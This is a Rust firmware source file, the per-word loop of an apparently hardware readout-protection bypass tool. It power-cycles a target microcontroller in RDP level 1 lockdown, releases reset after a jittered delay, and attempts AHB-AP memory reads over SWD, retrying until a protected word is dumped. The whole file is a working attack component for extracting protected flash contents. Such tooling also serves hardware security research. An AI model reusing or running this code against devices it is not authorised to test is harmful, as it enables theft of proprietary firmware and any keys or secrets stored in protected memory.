// MIT License

//! Extraction controller: the per-word glitch loop.
//!
//! Cold-boots the target on every attempt to guarantee a clean RDP level 1
//! lockdown state, releases reset, waits a jittered delay, then attempts an
//! AHB-AP memory read through the SWD session layer. The controller is the
//! sole writer of [`ExtractionStats`] and [`JitterState`].

use embedded_hal::delay::DelayNs;
use embedded_hal::digital::OutputPin;
use rdp_tap_swd::{CycleDelay, SwClkPin, SwdError, SwdIoPin, SwdSession};

use crate::config::{ExtractionStats, JitterState, MAX_READ_ATTEMPTS};

pub struct Extractor {
    pub stats: ExtractionStats,
    pub jitter: JitterState,
}

impl Default for Extractor {
    fn default() -> Self {
        Extractor {
            stats: ExtractionStats::default(),
            jitter: JitterState::default(),
        }
    }
}

impl Extractor {
    pub fn new() -> Self {
        Self::default()
    }

    /// Zero the attempt/success/failure counters. Called once, on the first
    /// activation of a run (not on every word).
    pub fn reset_stats(&mut self) {
        self.stats = ExtractionStats::default();
    }

    /// Attempt to read the 32-bit word at `addr` (rounded down to a 32-bit
    /// boundary), retrying up to [`MAX_READ_ATTEMPTS`] times. Returns the
    /// last ack seen on exhaustion.
    #[allow(clippy::too_many_arguments)]
    pub fn extract_word<IO, CLK, CD, PWR, RST, LED, MS>(
        &mut self,
        swd: &mut SwdSession<IO, CLK, CD>,
        power: &mut PWR,
        reset: &mut RST,
        led: &mut LED,
        delay: &mut MS,
        addr: u32,
    ) -> Result<u32, SwdError>
    where
        IO: SwdIoPin,
        CLK: SwClkPin,
        CD: CycleDelay,
        PWR: OutputPin,
        RST: OutputPin,
        LED: OutputPin,
        MS: DelayNs,
    {
        let word_addr = addr & !0x3;
        let mut last_err = SwdError::NoAck(0);

        for attempt in 0..MAX_READ_ATTEMPTS {
            log::trace!("extract_word: attempt {attempt} at {word_addr:#010x}");

            // Infallible on every board this firmware targets: these are
            // plain push-pull GPIOs, never an expander behind a bus.
            led.set_low().unwrap();
            power.set_high().unwrap();
            delay.delay_ms(5);

            let result = swd
                .init()
                .and_then(|_| swd.enable_debug_if())
                .and_then(|_| swd.set_ap_32bit_mode())
                .and_then(|_| swd.select_ahb_ap())
                .and_then(|_| {
                    reset.set_high().unwrap(); // release
                    delay.delay_ms(u32::from(self.jitter.delay_ms));
                    swd.read_ahb(word_addr)
                });

            reset.set_low().unwrap(); // assert
            self.stats.attempts += 1;

            match result {
                Ok(data) => {
                    log::debug!("extract_word: {word_addr:#010x} = {data:#010x}");
                    self.stats.successes += 1;
                    led.set_high().unwrap();
                    power.set_low().unwrap();
                    delay.delay_ms(1);
                    return Ok(data);
                }
                Err(err) => {
                    log::debug!("extract_word: {word_addr:#010x} failed: {err}");
                    self.stats.failures += 1;
                    last_err = err;
                    self.jitter.advance();
                }
            }

            power.set_low().unwrap();
            delay.delay_ms(1);
        }

        log::warn!("extract_word: {word_addr:#010x} exhausted {MAX_READ_ATTEMPTS} attempts");
        Err(last_err)
    }
}
